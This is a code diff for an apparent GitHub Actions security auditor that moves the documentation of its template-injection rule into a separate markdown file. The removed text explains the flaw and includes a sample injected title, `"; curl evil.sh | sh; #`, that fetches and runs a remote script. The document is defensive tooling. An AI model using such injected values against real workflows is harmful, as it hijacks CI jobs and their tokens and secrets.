@@ -13,17 +13,7 @@ pub const DOC: AuditDoc = AuditDoc {
     name: "Attacker-controlled expression expanded into code",
     severity: Severity::High,
     confidence: Confidence::High,
-    description: "**What it finds:** a `${{ }}` expression over a context that outsiders \
-control (issue and pull-request titles and bodies, comment and review bodies, branch names \
-such as `github.head_ref` or `pull_request.head.ref`, commit messages and author names, \
-`workflow_run` head branch and commit, discussion text, wiki page names) expanded inside \
-a `run:` script or the `script:` of `actions/github-script`, directly or through an \
-`env.` variable set from such a context.\n\n\
-**Why it matters:** GitHub substitutes the text into the script before the shell runs it, \
-so a title like `\"; curl evil.sh | sh; #` becomes code running with the job's token and \
-secrets. With `pull_request_target`, `issue_comment` or `issues` triggers that means \
-write access to the repository.\n\n\
-**Example:**\n```yaml\n- run: echo \"Checking ${{ github.event.pull_request.title }}\"\n```\n",
+    description: include_str!("docs/template_injection.md"),
     remediation: "Pass the value through an environment variable and quote it in the \
 shell: `env: { TITLE: ${{ github.event.pull_request.title }} }` and `run: echo \"$TITLE\"` \
 (in github-script read `context.payload` instead of expanding).",
